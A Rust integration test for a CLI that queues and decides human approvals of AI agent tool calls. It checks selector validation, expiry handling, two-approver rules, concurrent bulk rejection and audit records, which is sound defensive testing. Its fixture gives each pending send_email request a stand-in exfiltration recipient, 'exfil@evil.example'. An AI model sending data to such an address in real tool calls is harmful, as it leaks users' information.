//! Clearing the approval queue with the real binary, the same scenario on every backend
//! (`tests/cli.rs`: the embedded store; `tests/redis_cli.rs`: Redis): `approve`/`reject` by
//! selector and by several ids, typos refused, expired requests left alone, two approvers,
//! and two concurrent bulk rejects that decide every request exactly once.

use quell::model::approval::{Approval, ApprovalStatus, Risk};
use quell::model::session::Session;
use quell::model::untrusted::{Untrusted, UntrustedJson};
use quell::ports::Stores;
use serde_json::Value;
use std::collections::BTreeSet;
use std::process::{Command, Output, Stdio};

pub struct Run {
    pub code: i32,
    pub stdout: String,
    pub stderr: String,
}

impl Run {
    fn of(o: Output) -> Run {
        Run {
            code: o.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
        }
    }

    fn json(&self) -> Value {
        serde_json::from_str(&self.stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {} {}", self.stdout, self.stderr))
    }
}

fn run(cmd: &dyn Fn() -> Command, args: &[&str]) -> Run {
    Run::of(cmd().args(args).output().expect("run quell"))
}

fn request(id: &str, session: &str, tool: &str, risk: Risk, expires_in: i64, approvers: u8) -> Approval {
    let now = quell::model::time::now();
    Approval {
        id: id.into(),
        session_id: session.into(),
        step: 1,
        tool: Untrusted::new(tool),
        arguments: UntrustedJson::new(serde_json::json!({"to": "exfil@evil.example"})),
        risk,
        requested_at: now - chrono::Duration::seconds(600),
        expires_at: now + chrono::Duration::seconds(expires_in),
        required_approvers: approvers,
        decisions: vec![],
        status: ApprovalStatus::Pending,
        unreadable: None,
    }
}

fn session(id: &str, agent: &str, namespace: &str) -> Session {
    let mut s = Session::new(id, agent, quell::model::time::now());
    s.namespace = Some(namespace.into());
    s.state = quell::model::session::SessionState::WaitingApproval;
    s
}

fn stored(stores: &Stores, id: &str) -> Approval {
    stores.approvals.approval(id).expect("read").expect("exists")
}

fn ids(results: &Value) -> Vec<String> {
    results.as_array().expect("array").iter().map(|r| r["id"].as_str().expect("id").to_owned()).collect()
}

const PROD: usize = 400;

/// `cmd` makes a `quell` command on the backend under test; `stores` is the same backend.
pub fn scenario(cmd: &dyn Fn() -> Command, stores: &Stores) {
    let sessions = [
        session("s-prod", "browser-agent", "genai-prod"),
        session("s-lab", "browser-agent", "genai-lab"),
        session("s-pay", "billing-agent", "genai-prod"),
    ];
    stores.sessions.put_sessions(&sessions).expect("sessions");
    let prod: Vec<String> = (0..PROD).map(|i| format!("b-prod-{i:03}")).collect();
    for (i, id) in prod.iter().enumerate() {
        stores.approvals.request_approval(&request(id, "s-prod", "send_email", Risk::High, 600 + i as i64, 1)).unwrap();
    }
    for (id, expires_in) in [("b-lab-2", 900), ("b-lab-1", 800), ("b-lab-old", -60)] {
        stores.approvals.request_approval(&request(id, "s-lab", "send_email", Risk::High, expires_in, 1)).unwrap();
    }
    stores.approvals.request_approval(&request("b-pay", "s-pay", "execute_payment", Risk::Critical, 700, 2)).unwrap();
    let undecided = |stores: &Stores| {
        prod.iter()
            .map(String::as_str)
            .chain(["b-lab-1", "b-lab-2", "b-lab-old", "b-pay"])
            .all(|id| stored(stores, id).decisions.is_empty())
    };

    // A typo is a usage error, never "everything"; a selector matching nothing decides nothing.
    for (selector, says) in [
        ("tol=send_email", "unknown field 'tol'"),
        ("risk=hihg", "valid: low, medium, high, critical"),
        ("state=runing", "state has no value 'runing'"),
        ("status in (pendng)", "valid: pending"),
        ("tool!=send_emial", "would exclude nothing"),
        ("  ", "empty selector"),
    ] {
        let r = run(cmd, &["reject", "--where", selector, "--reason", "INC-7", "--as", "alice"]);
        assert_eq!(r.code, 2, "{selector}: {} {}", r.stdout, r.stderr);
        assert_eq!(r.stderr.lines().count(), 1, "{selector}: one line: {}", r.stderr);
        assert!(r.stderr.contains(says), "{selector}: {}", r.stderr);
    }
    let none = run(cmd, &["reject", "--where", "tool=nothing_like_it", "--reason", "INC-7", "--as", "alice"]);
    assert_eq!(none.code, 3, "{}", none.stderr);
    assert!(none.stderr.contains("no pending approval matches"), "{}", none.stderr);
    assert!(none.stderr.contains("no request in scope has tool 'nothing_like_it'"), "{}", none.stderr);
    let ro = run(cmd, &["--readonly", "reject", "--where", "tool=send_email", "--reason", "x", "--as", "alice"]);
    assert_eq!(ro.code, 2, "{}", ro.stderr);
    assert!(undecided(stores), "nothing was decided");

    // The listing shows exactly what a decision would take: pending, unexpired, soonest first.
    let lab = run(cmd, &["approvals", "--where", "tool=send_email,namespace=genai-lab", "-o", "json"]);
    assert_eq!(lab.code, 0, "{}", lab.stderr);
    assert_eq!(ids(&lab.json()), ["b-lab-1", "b-lab-2"], "the expired request is not pending");
    let partly =
        run(cmd, &["approvals", "--where", "tool in (send_email, send_emial),namespace=genai-lab", "-o", "json"]);
    assert_eq!(ids(&partly.json()), ["b-lab-1", "b-lab-2"]);
    assert!(partly.stderr.contains("no request in scope has tool 'send_emial'"), "the typo is said: {}", partly.stderr);
    let expired = run(cmd, &["approvals", "--all", "--where", "status=expired", "-o", "json"]);
    assert_eq!(ids(&expired.json()), ["b-lab-old"]);
    let table = run(cmd, &["approvals", "--where", "namespace=genai-lab"]);
    assert_eq!(table.stdout.lines().last(), Some("2 pending"), "{}", table.stdout);
    let all = run(cmd, &["approvals", "--all", "--where", "agent=browser-agent"]);
    assert!(
        all.stdout.contains("1 expired") && all.stdout.contains(&format!("{} pending", PROD + 2)),
        "{}",
        all.stdout
    );

    // Operators clear the same queue at once, two by the selector and one by the ids in the
    // opposite order (so that they cross): every request is decided exactly once.
    let selector = "tool=send_email,namespace=genai-prod";
    let reversed: Vec<&str> = prod.iter().rev().map(String::as_str).collect();
    let deciders: [(&str, Vec<&str>); 3] =
        [("op-a", vec!["--where", selector]), ("op-b", vec!["--where", selector]), ("op-c", reversed)];
    let children: Vec<_> = deciders
        .iter()
        .map(|(who, target)| {
            cmd()
                .arg("reject")
                .args(target)
                .args(["--reason", "INC-7 exfil", "--as", who, "-o", "json"])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .expect("spawn quell")
        })
        .collect();
    let runs: Vec<Run> = children.into_iter().map(|c| Run::of(c.wait_with_output().expect("wait"))).collect();
    let mut recorded_by: Vec<(String, String)> = Vec::new();
    for ((who, target), r) in deciders.iter().zip(&runs) {
        let by_selector = target[0] == "--where";
        if by_selector && r.code == 3 {
            // The others decided everything before this one chose its scope.
            assert!(r.stderr.contains("no pending approval matches"), "{who}: {}", r.stderr);
            continue;
        }
        let doc = r.json();
        assert_eq!(doc["selector"], if by_selector { Value::from(selector) } else { Value::Null });
        assert_eq!(doc["operator"], *who);
        let results = doc["results"].as_array().unwrap();
        let mut lost = 0;
        for res in results {
            let id = res["id"].as_str().unwrap().to_owned();
            assert!(prod.contains(&id), "{who} decided only what matched: {id}");
            match res["outcome"].as_str().unwrap() {
                "rejected" => recorded_by.push((id, who.to_string())),
                "already_decided" => {
                    lost += 1;
                    let by = res["decided_by"].as_str().unwrap_or_default();
                    assert!(by != *who && by.starts_with("op-"), "{who} is told who decided {id}: {res}");
                }
                other => panic!("{who}: unexpected outcome {other} for {id}"),
            }
        }
        assert_eq!(r.code, if lost == 0 { 0 } else { 4 }, "{who}: {}", r.stderr);
        assert_eq!(doc["recorded"], results.len() - lost);
    }
    let decided: BTreeSet<&String> = recorded_by.iter().map(|(id, _)| id).collect();
    assert_eq!(decided.len(), recorded_by.len(), "no request recorded twice: {recorded_by:?}");
    assert_eq!(decided.len(), PROD, "every matching request decided: {recorded_by:?}");
    for (id, who) in &recorded_by {
        let a = stored(stores, id);
        assert_eq!(a.status, ApprovalStatus::Rejected);
        assert_eq!(a.decisions.len(), 1, "{id} decided once");
        assert_eq!(&a.decisions[0].approver, who, "{id}: the one that says it decided did");
    }
    for id in ["b-lab-1", "b-lab-2", "b-lab-old", "b-pay"] {
        assert!(stored(stores, id).decisions.is_empty(), "{id} was outside the selector");
    }
    // The operator's audit record names the selector, the exact requests and each outcome.
    let (_, winner) = &recorded_by[0];
    let replay = run(cmd, &["replay", &format!("operator:{winner}"), "-o", "json"]);
    let ev: Value =
        replay.stdout.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()).next_back().expect("an event");
    assert_eq!(ev["attributes"]["quell.action"], "reject");
    assert_eq!(ev["attributes"]["quell.reason"], "INC-7 exfil");
    assert_eq!(ev["attributes"]["quell.scope"]["selector"], selector);
    assert_eq!(ev["attributes"]["quell.scope"]["sessions"], serde_json::json!(["s-prod"]));
    let outcomes = ev["attributes"]["quell.approval.outcomes"].as_object().expect("outcomes");
    for (id, who) in &recorded_by {
        if who == winner {
            assert_eq!(outcomes[id.as_str()], "rejected", "{id}");
        }
    }

    // Several ids: each one is decided or said why not; one bad id hides none of the others.
    let first = &prod[0];
    let first_by = &recorded_by.iter().find(|(id, _)| id == first).expect("decided").1;
    let mixed =
        run(cmd, &["approve", "b-lab-1", "b-nope", first, "b-lab-old", "--reason", "ok", "--as", "bob", "-o", "json"]);
    assert_eq!(mixed.code, 3, "an unknown id: exit 3 ({})", mixed.stderr);
    let doc = mixed.json();
    let results = &doc["results"];
    assert_eq!(ids(results), ["b-lab-1", "b-nope", first.as_str(), "b-lab-old"], "in the order typed");
    let outcome: Vec<&str> = results.as_array().unwrap().iter().map(|r| r["outcome"].as_str().unwrap()).collect();
    assert_eq!(outcome, ["approved", "not_found", "already_decided", "expired"]);
    assert_eq!(results[2]["decided_by"], first_by.as_str());
    assert_eq!(results[2]["status"], "rejected");
    assert_eq!(doc["recorded"], 1);
    assert_eq!(stored(stores, "b-lab-1").status, ApprovalStatus::Approved);
    assert!(stored(stores, "b-lab-old").decisions.is_empty(), "an expired request is never decided");
    let text = run(cmd, &["reject", "b-lab-2", "b-lab-1", "--reason", "second look", "--as", "bob"]);
    assert_eq!(text.code, 4, "one was decided already: {}", text.stderr);
    let lines: Vec<&str> = text.stdout.lines().collect();
    assert_eq!(lines[0], "reject approval b-lab-2 of session s-lab (by bob: second look)", "{}", text.stdout);
    assert!(lines.iter().any(|l| l.starts_with("b-lab-2") && l.ends_with("rejected")), "{}", text.stdout);
    assert!(lines.iter().any(|l| l.starts_with("b-lab-1") && l.contains("already approved by bob")), "{}", text.stdout);
    assert_eq!(lines.last(), Some(&"2 named: 1 rejected, 1 already decided"), "{}", text.stdout);

    // Two approvers: a bulk approval records one; the same person again is refused; a second one decides.
    let sel = ["--where", "risk=critical,agent=billing-agent"];
    let one = run(cmd, &[&["approve"], &sel[..], &["--reason", "verified", "--as", "alice", "-o", "json"]].concat());
    assert_eq!(one.code, 0, "{}", one.stderr);
    let r = &one.json()["results"][0];
    assert_eq!(
        (r["id"].as_str(), r["outcome"].as_str(), r["approvals"].as_u64()),
        (Some("b-pay"), Some("recorded"), Some(1))
    );
    assert_eq!(stored(stores, "b-pay").status, ApprovalStatus::Pending);
    let again = run(cmd, &[&["approve"], &sel[..], &["--reason", "verified", "--as", "Alice "]].concat());
    assert_eq!(again.code, 4, "{}", again.stdout);
    assert!(again.stdout.contains("a second, different approver is needed"), "{}", again.stdout);
    assert_eq!(stored(stores, "b-pay").decisions.len(), 1);
    let second = run(cmd, &[&["approve"], &sel[..], &["--reason", "verified", "--as", "carol"]].concat());
    assert_eq!(second.code, 0, "{}", second.stderr);
    let paid = stored(stores, "b-pay");
    assert_eq!((paid.status, paid.decisions.len()), (ApprovalStatus::Approved, 2));
}
